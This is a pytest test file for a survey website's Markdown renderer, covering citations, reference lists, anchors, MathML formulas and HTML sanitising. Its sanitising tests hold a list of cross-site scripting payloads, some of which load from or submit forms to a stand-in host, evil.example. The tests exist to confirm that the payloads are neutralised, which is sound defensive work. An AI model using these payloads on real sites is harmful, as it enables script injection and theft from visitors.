"""A chapter as the site shows it: citations, reference lists, formulas, anchors, and contributed HTML made inert."""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser

import lxml.html
import pytest
from in_memory import Page, survey_of

from livingsurvey.render.bibliography_page import bibliography
from livingsurvey.render.html import chapter_html
from livingsurvey.render.pages import Pages
from livingsurvey.render.reference_page import reference_pages
from livingsurvey.render.works import works_json
from livingsurvey.syntax.problem import SurveyError

ASH, BEECH = "ash2020", "beech2021"


def words(page: Page) -> str:
    """The text of a page's own part."""
    return " ".join(lxml.html.fromstring(f"<div>{page.body}</div>").text_content().split())


def cited(page: Page) -> list[str]:
    return page.values("//a[@class='sv-cite']/@href")


# -------------------------------------------------------------------------------------------------------- citations

FORMS = {
    "[@ash2020]": ("(Ash, 2020)", "[1]"),
    "[@ash2020; @beech2021]": ("(Ash, 2020; Beech and Cedar, 2021)", "[1, 2]"),
    "[see @ash2020, pp. 3--4; also @beech2021]": (
        "(see Ash, 2020, pp. 3–4; also Beech and Cedar, 2021)",
        "[see 1, pp. 3–4, also 2]",
    ),
    "[-@ash2020]": ("(2020)", "[1]"),
    "[-@ash2020, p. 3]": ("(2020, p. 3)", "[1, p. 3]"),
    "@ash2020": ("Ash (2020)", "Ash [1]"),
    "@ash2020 [p. 5]": ("Ash (2020, p. 5)", "Ash [1, p. 5]"),
    "@beech2021 shows": ("Beech and Cedar (2021) shows", "Beech and Cedar [1] shows"),
    "@{ash2020}": ("Ash (2020)", "Ash [1]"),
    "[@ash2020; @ash2020]": ("(Ash, 2020; Ash, 2020)", "[1, 1]"),
    "[@gone]": ("(?gone)", "[?gone]"),
    "@gone": ("?gone", "?gone"),
    "[@ash2020; @gone]": ("(Ash, 2020; ?gone)", "[1, ?gone]"),
    "[**see** @ash2020, *p.* 3]": ("(see Ash, 2020, p. 3)", "[see 1, p. 3]"),
    "\\@ash2020 and \\@{x}": ("@ash2020 and @{x}", "@ash2020 and @{x}"),
    "from \\$5 to \\$10 [@ash2020]": ("from $5 to $10 (Ash, 2020)", "from $5 to $10 [1]"),
    "a [@ash2020]. B": ("a (Ash, 2020). B", "a [1]. B"),
    "**@ash2020** *[@ash2020]*": ("Ash (2020) (Ash, 2020)", "Ash [1] [1]"),
}


@pytest.mark.parametrize("text", FORMS)
def test_citations_are_shown_in_either_style(text: str) -> None:
    author_year, numeric = FORMS[text]
    assert words(Page(text)) == author_year
    assert words(Page(text, style="numeric")) == numeric


def test_works_that_look_alike_are_told_apart_by_letters() -> None:
    store = "@misc{b, author={Ash, A}, title={B}, year=2023}\n@misc{a, author={Ash, A}, title={A}, year=2023}\n"
    assert words(Page("[@b; @a] @a", store)) == "(Ash, 2023b; Ash, 2023a) Ash (2023a)"


def test_a_citation_links_to_its_entry_and_the_entry_back_to_every_mention() -> None:
    page = Page(
        "One [@ash2020].\n\n- Two @beech2021\n\n| a |\n|---|\n| [@ash2020; @beech2021] |\n\n[^1]\n\n[^1]: [@ash2020]\n"
    )
    assert cited(page) == ["#ref-ash2020", "#ref-beech2021", "#ref-ash2020", "#ref-beech2021", "#ref-ash2020"]
    ids = page.values("//@id")
    assert len(ids) == len(set(ids))
    links = page.values("//a/@href")
    assert [link for link in links if link.startswith("#") and link[1:] not in ids] == []
    backlinks = page.values("//li[@id='ref-ash2020']//span[contains(@class, 'sv-backlinks')]/a/@href")
    assert backlinks == ["#cite-ash2020-1", "#cite-ash2020-2", "#cite-ash2020-3"]
    assert page.values("//a[@class='sv-cite']/@id") == [
        "cite-ash2020-1", "cite-beech2021-1", "cite-ash2020-2", "cite-beech2021-2", "cite-ash2020-3"
    ]  # fmt: skip


def test_the_reference_list_holds_what_the_page_cites_in_order() -> None:
    page = Page("[@beech2021] [@gone] @ash2020\n")
    assert [text.split(" ↩")[0] for text in page.texts("//section//li")] == [
        "Ash, A. (2020). First.",
        "Beech, B., & Cedar, C. (2021). Second.",
    ]
    assert page.values("//section//a[@class='sv-work']/@href") == ["references/ash2020/", "references/beech2021/"]
    numeric = Page("[@beech2021] @ash2020\n", style="numeric", path="part/a.md")
    assert [text.split()[0] for text in numeric.texts("//section//li")] == ["[1]", "[2]"]
    assert numeric.values("//section//a[@class='sv-work']/@href")[0] == "../../references/beech2021/"
    assert "sv-references" not in Page("nothing, `[@ash2020]`, [@gone]\n").html


def test_keys_of_any_signs_give_ids_that_work() -> None:
    store = "@misc{DBLP:conf/x/Y-1, title={A}}\n@misc{dblp:CONF/x/y-1, title={B}}\n@misc{größe, title={C}}\n"
    page = Page("@DBLP:conf/x/Y-1 @dblp:CONF/x/y-1 @größe\n", store)
    ids = page.values("//@id")
    assert len(ids) == len(set(ids)) == 7
    assert all(re.fullmatch(r"[\w-]+", each, re.ASCII) for each in ids)
    assert [link for link in page.values("//a/@href") if link.startswith("#") and link[1:] not in ids] == []


VERBATIM = {
    "`[@ash2020]` and ``@ash2020``": "code",
    "    [@ash2020]\n": "pre",
    "```\n[@ash2020] @ash2020\n```\n": "pre",
    "- a\n\n    ```\n    [@ash2020]\n    ```\n": "pre",
    "<code>[@ash2020]</code>": "code",
    "<pre>[@ash2020]</pre>": "pre",
    "<kbd>@ash2020</kbd>": "kbd",
}


@pytest.mark.parametrize("text", VERBATIM)
def test_code_shows_what_was_written(text: str) -> None:
    page = Page(text)
    assert cited(page) == []
    assert "@ash2020" in page.texts(f"//{VERBATIM[text]}")[0]


@pytest.mark.parametrize(
    "text",
    [
        "[see @ash2020](a.md)",
        "[see [@ash2020]](a.md)",
        "[see @ash2020][r]\n\n[r]: a.md",
        '<a href="a">[@ash2020]</a>',
        '![@ash2020](a.png "[@ash2020]")',
        '<img src="a.png" alt="[@ash2020]" title="@ash2020">',
        "https://example.org/@ash2020 <https://example.org/@ash2020> someone@ash2020",
        '*a*{title="[@ash2020]"}',
        "<!-- [@ash2020] --> a",
        "<script>[@ash2020]</script> a",
        "<title>[@ash2020]</title> a",
    ],
)
def test_links_addresses_and_html_hold_no_citation(text: str) -> None:
    page = Page(text)
    assert cited(page) == []
    assert page.survey.cited_by == {}
    assert "sv-references" not in page.html


def test_a_citation_in_a_place_that_holds_no_link_is_text() -> None:
    # Scanner and page may differ on such a text; then the page is still sound.
    page = Page('<a href="x"\n>see [@ash2020]</a> [@ash2020]\n\n<a href="y">\n\n[@ash2020]\n')
    ids = page.values("//@id")
    assert [link for link in page.values("//section//a/@href") if link[0] == "#" and link[1:] not in ids] == []
    assert not page.tree.xpath("//a[@href]//a[@href]")


def test_what_an_engine_without_admonitions_takes_for_code_is_shown_as_written() -> None:
    survey = survey_of({"docs/a.md": "!!! note\n\n    See [@k] and $x$.\n", "bibliography/a.bib": "@misc{k}\n"})
    tree = lxml.html.fromstring(chapter_html(Pages(survey), survey.chapters[0]))
    assert [found.text_content().strip() for found in tree.xpath("//pre/code")] == ["See [@k] and $x$."]
    assert not tree.xpath("//a | //math")


def test_text_that_an_extension_shows_twice_has_one_id() -> None:
    page = Page("# A [@ash2020]\n\n[TOC]\n\nText @ash2020\n")
    ids = page.values("//@id")
    assert len(ids) == len(set(ids))
    assert page.texts("//div[@class='toc']//li") == ["A"]


# ---------------------------------------------------------------------------------------- title block and anchors


def test_a_page_without_heading_gets_a_title_block() -> None:
    page = Page(
        "---\ntitle: A & B\ndescription: About <b>.\nkind: chapter\nsearched: 2026-04-03\nstatus: draft\n---\n\n"
        "[@ash2020]\n"
    )
    assert page.texts("//header/h1") == ["A & B"]
    assert page.texts("//header/p[@class='sv-description']") == ["About <b>."]
    (facts,) = page.texts("//header/p[@class='sv-facts']")
    for fact in ("1 min read", "1 reference", "literature searched 3 April 2026", "status: draft"):
        assert fact in facts
    assert page.values("//header//time/@datetime") == ["2026-04-03"]


@pytest.mark.parametrize(
    "text", ["# Own\n", "Own\n===\n", "text\n\n# Own\n", "<h1>Own</h1>\n", "<div>\n<h1>Own</h1></div>\n"]
)
def test_a_page_with_a_heading_of_its_own_gets_no_second(text: str) -> None:
    page = Page("---\ntitle: Given\n---\n" + text)
    assert [re.sub("¶", "", found) for found in page.texts("//h1")] == ["Own"]


def test_code_and_attributes_are_no_heading() -> None:
    page = Page('---\ntitle: Given\n---\n`<h1>` <span title="<h1>">x</span>\n')
    assert page.texts("//h1") == ["Given"]


def test_the_list_is_in_the_contents() -> None:
    page = Page("# A\n\n## B\n\n[@ash2020]\n")
    (top,) = page.markdown.toc_tokens  # type: ignore[attr-defined]
    assert [(child["id"], child["name"]) for child in top["children"]] == [("b", "B"), ("references", "References")]
    bare = Page("[@ash2020]\n").markdown.toc_tokens  # type: ignore[attr-defined]
    assert [token["id"] for token in bare] == ["references"]
    assert Page("# A\n\ntext\n").markdown.toc_tokens[0]["children"] == []  # type: ignore[attr-defined]


def test_a_heading_called_references_keeps_its_anchor() -> None:
    page = Page("## References\n\n[@ash2020]\n", path="a.md")
    assert [name.strip("¶") for name in page.texts("//h2[@id='references']")] == ["References"]
    assert page.texts("//section/h2[@id='references-cited']") == ["References¶"]
    assert page.values("//header/p//a/@href") == ["#references-cited"]
    tokens = page.markdown.toc_tokens  # type: ignore[attr-defined]
    assert [token["id"] for token in tokens] == ["references", "references-cited"]


HEADINGS = """\
# On [@ash2020] and @beech2021 [p. 3]

## Loss $\\ell_2 < 1$ [@ash2020] ##

## `code_` *it* \\@here {#own}

Setext [-@ash2020]
------------------

## Loss $\\ell_2 < 1$

## Cite this

## Ref counting

## Survey method

## MD simulations

!!! note
    ### In a note [@ash2020]
"""


def test_headings_have_the_anchors_that_the_checker_knows() -> None:
    page = Page(HEADINGS)
    expected = [heading.anchor for heading in page.chapter.headings]
    assert expected == [
        "on-and", "loss-ell_2-1", "own", "setext", "loss-ell_2-1_1", "cite-this", "ref-counting", "survey-method",
        "md-simulations", "in-a-note",
    ]  # fmt: skip
    own = page.values("//*[self::h1 or self::h2 or self::h3][not(ancestor::section)]/@id")
    assert own == expected
    assert page.values("//a[@class='headerlink']/@href")[:-1] == [f"#{anchor}" for anchor in expected]


def test_names_in_the_contents_are_without_citations_and_with_formulas_as_tex() -> None:
    (top,) = Page(HEADINGS).markdown.toc_tokens  # type: ignore[attr-defined]
    names = [html.unescape(token["name"]) for token in top["children"]]
    assert top["name"] == "On and"
    assert names[:3] == ["Loss \\ell_2 < 1", "code_ it @here", "Setext"]


# -------------------------------------------------------------------------------------------------------- formulas


def test_formulas_are_mathml() -> None:
    page = Page("A $x_1$ and\n\n$$\n\\sum_i i\n$$\n\n| $a|b$ |\n|---|\n| $\\alpha$ |\n\n**$y$** [$z$](a.md)\n")
    assert len(page.tree.xpath("//math")) == 6
    assert page.values("//math/@display") == ["block"]
    assert page.texts("//a[@href='a.md']/math") == ["z"]
    assert "$" not in words(page)


def test_a_formula_that_cannot_be_read_is_shown_as_written() -> None:
    page = Page('A $\\frac{<b>"$ b\n')
    assert page.texts("//code[@class='sv-unknown']") == ['$\\frac{<b>"$']
    assert page.tree.xpath("//b") == []


def test_dollars_in_code_are_dollars() -> None:
    page = Page("`$a$` costs $5 and $6\n\n    $b$\n\n<code>$c$</code> \\$d\\$\n")
    assert page.tree.xpath("//math") == []
    assert "$5 and $6" in words(page)


# ------------------------------------------------------------------------------------------------------ sanitising

_ACTIVE = frozenset(
    "script style iframe frame frameset object embed applet base form meta link svg template noscript textarea video "
    "audio source select".split()
)
_ADDRESSES = ("href", "src", "action", "formaction", "srcset", "data", "poster", "background", "xlink:href", "srcdoc")


class Acting(HTMLParser):
    """Gathers what of a page could act: read with another parser than the sanitiser's."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE or (tag == "input" and dict(attrs).get("type") not in ("checkbox", "radio")):
            self.found.append(tag)
        for name, given in attrs:
            value = re.sub(r"[\t\n\r]", "", given or "").strip("\x00\x01 ").lower()
            if name.startswith("on") or (name in _ADDRESSES and re.match(r"(?:java|vb|live)script:|data:", value)):
                self.found.append(f"{tag} {name}={given}")
            if name == "style" and not re.fullmatch(r"(?:text-align:\s*\w*;?)?", value):
                self.found.append(f"{tag} style={given}")


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<div>\n<script>alert(1)</script>\n</div>",
    "a <b onmouseover=alert(1)>b</b> <img src=x onerror='alert(1)'>",
    '<img src="x" onerror\n=\n"alert(1)">',
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:x)",
    "[a](&#106;avascript:alert(1)) <a href='&#x6A;avascript:alert(1)'>b</a>",
    "[a]: javascript:alert(1)\n\n[b][a] [a]",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1)) <img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href=' \x01javascript:alert(1)'>a</a>",
    "<style>body { display: none }</style> a",
    '<p style="position: fixed; text-align: left; background: url(//evil.example)">a</p>',
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>a</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=a><button formaction=x>a</button></form>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<input type=password name=a> <input type='&quot; type=checkbox'> <input title=' type=\"'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp> <plaintext>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<select><option><script>alert(1)</script></select>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "*a*{onclick=alert(1)} [b](c){: onmouseover='alert(1)' style='color: red' }",
    "# A {onclick=alert(1)}\n",
    '!!! note "<img src=x onerror=alert(1)>"\n    a',
    '??? note "<script>alert(1)</script>"\n    a',
    '=== "<script>alert(1)</script>"\n    a',
    '``` {.py title="<script>alert(1)</script>" onclick="alert(1)"}\na\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "[^<script>]: a\n\n[^<script>]",
    "| <script>alert(1)</script> | [a](javascript:alert(1)) |\n|---|---|\n",
    "<a\nhref='javascript:alert(1)'\n>a</a> <a href=javascript&colon;alert(1)>b</a>",
    "/// caption\n    attrs: {onclick: alert(1), style: 'position: fixed'}\na\n///",
    '$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$ $"><img src=x onerror=alert(1)>$',
    "[see <script>alert(1)</script> @ash2020, <img src=x onerror=alert(1)>]",
    '@ash2020 [1 "><script>alert(1)</script>]',
    '@{x"><script>alert(1)</script>}',
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 <script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_contributed_html_cannot_act(text: str) -> None:
    page = Page(f"# T\n\n{text}\n\nend [@ash2020]\n")
    assert Acting(page.html).found == []


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_fields_of_entries_cannot_act_on_any_page(text: str) -> None:
    value = re.sub(r"[{}\\@]", "", text)
    fields = "author title journal booktitle publisher year volume number pages abstract note url doi eprint".split()
    store = "@article{k, archiveprefix = {arXiv},\n" + ",\n".join(f"{field} = {{{value}}}" for field in fields) + "}\n"
    for style in ("author-year", "numeric"):
        page = Page("# T\n\n[@k] @k\n", store, style)
        made = [page.html, *(f"{stamp.heading}{stamp.body}" for stamp in reference_pages(page.pages))]
        made += [str(work[1]) for work in json.loads(works_json(page.pages))["works"]]
        for markup in made:
            assert Acting(markup).found == []
        tame = Page("# T\n\n[@k] @k\n", "@article{k}\n", style)  # the page has controls of its own
        listed, expected = (str(bibliography(each.pages, "references/index.md")) for each in (page, tame))
        assert Acting(listed).found == Acting(expected).found


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_front_matter_and_quoted_sentences_cannot_act(text: str) -> None:
    quoted = "'" + text.replace("'", "''").replace("\n", " ").translate({1: None, 2: None, 3: None}) + "'"
    page = Page(f"---\ntitle: {quoted}\ndescription: {quoted}\n---\n\n{text} [@ash2020] {text}\n")
    made = [page.html, *(str(stamp.body) for stamp in reference_pages(page.pages))]
    assert page.chapter.front_matter_problem is None
    for markup in made:
        assert Acting(markup).found == []


@pytest.mark.parametrize(
    "text",
    [
        '<a id="cite-ash2020-1">a</a>',
        '<li id="ref-ash2020">a</li>',
        '<input type="checkbox" id="__search"><label for="__drawer">a</label>',
        '<div id="__config">{}</div>',
        "## A {#ref-ash2020}",
        "*a*{#cite-ash2020-1}",
        "$$\\begin{align}x\\label{ref-ash2020}\\end{align}$$",
        "<a name='__toc'>a</a>",
    ],
)
def test_contributed_ids_cannot_pose_as_ours_or_the_frames(text: str) -> None:
    page = Page(f"{text}\n\n[@ash2020]\n")
    for our_id in ("cite-ash2020-1", "ref-ash2020"):
        (owner,) = page.tree.xpath(f"//*[@id='{our_id}']")
        assert owner.get("class") == "sv-cite" or owner.xpath("ancestor::section")
    assert [value for value in page.values("//@id | //@name | //@for") if value.startswith("__")] == []


@pytest.mark.parametrize(
    "text",
    [
        '<div class="sv-references md-search__overlay wide">a</div>',
        '<div class="$a sv-cite md-dialog$ wide">a</div>',
        "*a*{.sv-cite .md-button .wide}",
    ],
)
def test_contributed_classes_cannot_pose_as_ours_or_the_frames(text: str) -> None:
    found = {each for value in Page(text).values("//@class") for each in value.split()}
    assert found <= {"wide", "md-button", "sv-title", "sv-title--home"}


@pytest.mark.parametrize(
    "text",
    [
        '<span title="[@ash2020] $x$">a</span>',
        '<span title="$x" onmouseover="alert(1)$">a</span>',
        '<span title="[see @ash2020, &quot; onmouseover=&quot;alert(1)]">a</span>',
        '<img src="a" alt="$x\'$ [@ash2020" onerror="alert(1)]">',
        '![$x$ " onerror="alert(1) [@ash2020]](a.png "$y$ \' onload=\'b")',
        '[a](b.md "$x\\" onclick=y$")',
        '<a href="$javascript:alert(1)$">a</a> <a href="java$script:alert(1)$">b</a>',
        '<p style="text-align:$left;background:url(//evil.example)$">a</p>',
        '*a*{title="$x$ [@ash2020]" onclick="$y$"}',
        '*[HTML]: a " onload="[@ash2020] $x$\n\nHTML',
    ],
    ids=ascii,
)
def test_nothing_breaks_out_of_an_attribute(text: str) -> None:
    page = Page(text, extra="abbr")
    assert Acting(page.html).found == []
    for value in page.values("//@title | //@alt"):
        assert "<" not in value
        assert "zq" not in value
    assert re.search(r"zq[0-9a-f]{16}", page.html) is None


def test_stand_ins_cannot_be_guessed_and_none_is_left() -> None:
    text = "zq0123456789abcdef0z zq00z [@ash2020] $x$ \\@a <b title='zq1z'>b</b>\n"
    page = Page(text)
    assert words(page).startswith("zq0123456789abcdef0z zq00z (Ash, 2020)")
    for _ in range(3):
        again = Page(text)
        assert again.html == page.html
        mark = again.markdown.preprocessors["survey-prepare"].run([text])[0]
        assert mark.split()[2] not in page.html


BENIGN = {
    '??? note "T"\n    body': "//details/summary",
    "<details open><summary>a</summary>b</details>": "//details[@open]/summary",
    '=== "A"\n    a\n\n=== "B"\n    b': "//div[contains(@class,'tabbed-set')]/input[@type='radio'][@checked]",
    "- [x] done\n- [ ] open": "//li//input[@type='checkbox'][@checked]",
    "a[^1]\n\n[^1]: b": "//sup[@id='fnref:1']/a[@class='footnote-ref'][@href='#fn:1']",
    "a[^1]\n\n[^1]: c": "//li[@id='fn:1']//a[@class='footnote-backref']",
    "`<script>alert(1)</script>`": "//code[contains(., '<script>')]",
    "```html\n<script>alert(1)</script>\n```": "//div[@class='highlight']/pre/code[contains(., '<script>')]",
    '```py title="a.py"\nx\n```': "//span[@class='filename']",
    "| a |\n|:-:|\n| b |": "//td[translate(@style, ' ;', '')='text-align:center']",
    "| a |\n|--:|\n| b |": "//th[translate(@style, ' ;', '')='text-align:right']",
    "*[HTML]: Language\n\nHTML": "//abbr[@title='Language']",
    "!!! warning\n    a": "//div[@class='admonition warning']/p[@class='admonition-title']",
    "[a](b.md){ .md-button .md-button--primary }": "//a[@class='md-button md-button--primary']",
    "![a](b.png){ width=300 loading=lazy }": "//img[@width='300'][@loading='lazy'][@alt='a']",
    "Term\n:   Definition": "//dl/dt",
    "H<sub>2</sub>O <kbd>x</kbd> <mark>y</mark> <ins>z</ins>": "//p[sub][kbd][mark][ins]",
    '<td colspan="2" rowspan="2">a</td>': "//div",
    '<table><tr><th scope="row" colspan="2">a</th></tr></table>': "//th[@scope='row'][@colspan='2']",
    '<figure markdown>\n![a](b.png)\n<figcaption>c</figcaption>\n</figure>': "//figure/figcaption",
    '<p align="center" lang="de" dir="rtl">a</p>': "//p[@lang='de'][@dir='rtl']",
    '<a id="old"></a>': "//a[@id='old']",
    "<ol start='3' reversed><li value='5'>a</li></ol>": "//ol[@start='3']/li[@value='5']",
    "[mail](mailto:a@example.org) [doi](doi:10.1/x) [rel](../a.md#b?c)": "//p[count(a[@href]) = 3]",
    "&copy; &lt;b&gt;": "//p[contains(., '© <b>')]",
    "## A {#a-b .c}": "//h2[@id='a-b'][@class='c']",
}  # fmt: skip


@pytest.mark.parametrize("text", BENIGN, ids=ascii)
def test_what_harms_nobody_survives(text: str) -> None:
    assert Page(text, extra="abbr").tree.xpath(BENIGN[text])


# -------------------------------------------------------------------------------------------------------- the book


def test_the_book_gets_the_text_without_what_only_the_site_shows() -> None:
    survey = survey_of(
        {
            "mkdocs.yml": "markdown_extensions:\n  - admonition\n  - toc: {slugify: !!python/name:a.b }\n",
            "docs/index.md": "---\r\ntitle: T\r\n---\r\n!!! note\r\n    See [@k]\r\n\r\n        code\r\n",
            "bibliography/a.bib": "@misc{k, author={Ash, A}, year=2020}\n",
        }
    )
    markup = chapter_html(Pages(survey), survey.chapters[0])
    tree = lxml.html.fromstring(markup)
    assert [found.text_content() for found in tree.xpath("//a[@class='sv-cite']")] == ["Ash, 2020"]
    assert "code" in tree.xpath("//pre")[0].text_content()
    assert "sv-references" not in markup
    assert "sv-title" not in markup
    assert "\r" not in markup


def test_an_extension_that_does_not_exist_is_told_in_one_line() -> None:
    survey = survey_of({"mkdocs.yml": "markdown_extensions: [no_such_thing]\n", "docs/index.md": "x"})
    with pytest.raises(SurveyError, match="no_such_thing"):
        chapter_html(Pages(survey), survey.chapters[0])


def test_a_page_that_python_markdown_cannot_convert_is_named() -> None:
    nested = "".join("    " * depth + "- a\n" for depth in range(400))
    survey = survey_of({"docs/deep.md": nested})
    with pytest.raises(SurveyError, match=r"docs/deep\.md: Python-Markdown cannot convert this page"):
        chapter_html(Pages(survey), survey.chapters[0])
